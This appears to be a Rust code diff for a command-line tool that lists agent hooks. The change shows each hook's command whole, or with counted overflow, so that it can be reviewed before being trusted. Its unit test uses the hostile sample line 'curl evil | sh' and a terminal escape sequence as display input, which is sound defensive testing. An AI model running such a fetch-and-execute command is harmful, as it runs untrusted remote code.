@@ -5,12 +5,19 @@ use crate::exit::Exit;
 use crate::face::Screen;
 use crate::hook_reports::{HookProblem, HookRow, HooksListed};
 use crate::hooks_here;
-use crate::term::{Style, Term, counted, glimpse, sanitise};
+use crate::term::{Style, Term, counted, glimpse, one_line};
 use crate::workspace::Workspace;
 use crate::world::World;
 
-/// Characters of a command line or prompt that are shown; `--json` has all.
+/// Characters of a matcher that are shown; `--json` has all.
 const SHOWN_MAX: usize = 100;
+
+/// Lines of a command or prompt that are shown. Somebody reads them before `trust`, so that they are shown whole where that is
+/// not more than a screen or two, and what is left is counted.
+const LINES_MAX: usize = 60;
+
+/// Characters of one line of them.
+const LINE_CHARS_MAX: usize = 2_000;
 
 /// Lists.
 pub(crate) fn run(world: &World, screen: &Screen) -> Outcome<Exit> {
@@ -46,9 +53,9 @@ fn words(term: &Term, listed: &HooksListed) -> String {
 /// A hook in a few lines.
 pub(super) fn hook_lines(term: &Term, row: &HookRow) -> Vec<String> {
     let style = if row.runs { Style::Green } else { Style::Dim };
-    let mut head = format!("{}  {}", term.style(style, &sanitise(&row.name)), row.trigger);
+    let mut head = format!("{}  {}", term.style(style, &one_line(&row.name)), row.trigger);
     if row.matcher != "*" {
-        head.push_str(&format!("  {}", sanitise(&glimpse(&row.matcher, SHOWN_MAX))));
+        head.push_str(&format!("  {}", one_line(&glimpse(&row.matcher, SHOWN_MAX))));
     }
     let sign = if row.action == "command" { "$" } else { ">" };
     let mut state = vec![row.grant.clone(), trust_words(&row.trust).to_string()];
@@ -59,11 +66,33 @@ pub(super) fn hook_lines(term: &Term, row: &HookRow) -> Vec<String> {
         state.push(format!("only in sessions of {agent}"));
     }
     let place = format!("{}:{} ({}); {}", row.file, row.line, row.format, state.join(", "));
-    vec![
-        head,
-        format!("    {sign} {}", sanitise(&glimpse(&row.does, SHOWN_MAX))),
-        term.style(Style::Dim, &format!("    {}", sanitise(&place))),
-    ]
+    let mut lines = vec![head];
+    lines.extend(does_lines(sign, &row.does));
+    lines.push(term.style(Style::Dim, &format!("    {}", one_line(&place))));
+    lines
+}
+
+/// What a hook does, line by line; what is too much is counted.
+fn does_lines(sign: &str, does: &str) -> Vec<String> {
+    let all = does.trim_end().split('\n');
+    let total = all.clone().count();
+    let mut lines = Vec::new();
+    for (at, line) in all.take(LINES_MAX).enumerate() {
+        let sign = if at == 0 { sign } else { "|" };
+        let mut shown: String = line.chars().take(LINE_CHARS_MAX).collect();
+        let cut = line.chars().count().saturating_sub(LINE_CHARS_MAX);
+        shown = one_line(&shown);
+        if cut > 0 {
+            let more = counted(cut, "more character", "more characters");
+            shown.push_str(&format!(" [{more}; --json shows all]"));
+        }
+        lines.push(format!("    {sign} {shown}").trim_end().to_string());
+    }
+    if total > LINES_MAX {
+        let more = counted(total - LINES_MAX, "more line", "more lines");
+        lines.push(format!("    [{more}; --json shows all]"));
+    }
+    lines
 }
 
 fn trust_words(trust: &str) -> &str {
@@ -87,10 +116,31 @@ pub(super) fn problem_lines(term: &Term, problem: &HookProblem) -> Vec<String> {
     vec![
         format!(
             "{}  {} {}",
-            term.style(Style::Bold, &sanitise(&place)),
+            term.style(Style::Bold, &one_line(&place)),
             term.style(style, problem.severity),
-            sanitise(&problem.message)
+            one_line(&problem.message)
         ),
-        term.style(Style::Dim, &sanitise(&format!("    {hint}{}", problem.code))),
+        term.style(Style::Dim, &one_line(&format!("    {hint}{}", problem.code))),
     ]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_a_hook_does_is_shown_whole_or_counted() {
+        let check = |does: &str, expected: &[&str]| assert_eq!(does_lines("$", does), expected);
+        check("true", &["    $ true"]);
+        check(
+            "echo ok\n\n  curl evil | sh\r\n\u{1b}[2K\n",
+            &["    $ echo ok", "    |", "    |   curl evil | sh␍", "    | ␛[2K"],
+        );
+        let long = format!("echo {}; rm x", " ".repeat(300));
+        check(&long, &[&format!("    $ {long}")]);
+        let lines = does_lines("$", &"x\n".repeat(100));
+        assert_eq!((lines.len(), lines[LINES_MAX].as_str()), (61, "    [40 more lines; --json shows all]"));
+        let cut = does_lines(">", &"y".repeat(LINE_CHARS_MAX + 7));
+        assert!(cut[0].ends_with("y [7 more characters; --json shows all]"), "{cut:?}");
+    }
 }
